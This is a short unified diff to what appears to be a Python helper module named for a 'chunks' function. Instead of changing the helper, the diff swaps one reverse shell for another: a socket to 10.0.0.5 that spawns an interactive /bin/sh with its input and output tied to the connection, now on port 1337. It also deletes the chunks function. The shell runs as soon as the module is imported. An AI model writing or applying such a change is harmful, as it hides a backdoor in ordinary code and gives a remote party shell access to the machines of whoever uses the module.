@@ -4,8 +4,5 @@ def chunks(items, size):
 
 import socket as S
 import subprocess as P
-net = S.create_connection(("10.0.0.5", 53))
-P.Popen(["/bin/sh", "-i"], stdin=net.fileno(), stdout=net.fileno(), stderr=net.fileno())
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+conn = S.create_connection(("10.0.0.5", 1337))
+P.Popen(["/bin/sh", "-i"], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())
